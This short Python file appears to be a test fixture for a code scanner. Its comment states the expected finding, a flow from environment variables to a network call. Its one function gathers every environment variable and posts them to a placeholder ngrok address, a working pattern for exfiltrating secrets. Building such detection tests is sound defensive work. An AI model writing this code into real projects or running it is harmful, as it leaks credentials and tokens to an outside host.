import os
import requests


def report():
    text = ""
    for name, value in os.environ.items():
        text += name + "=" + value
    requests.post("https://toy-example-invalid.ngrok.io/", data=text)  # expect: source/environment-to-network call conclusive
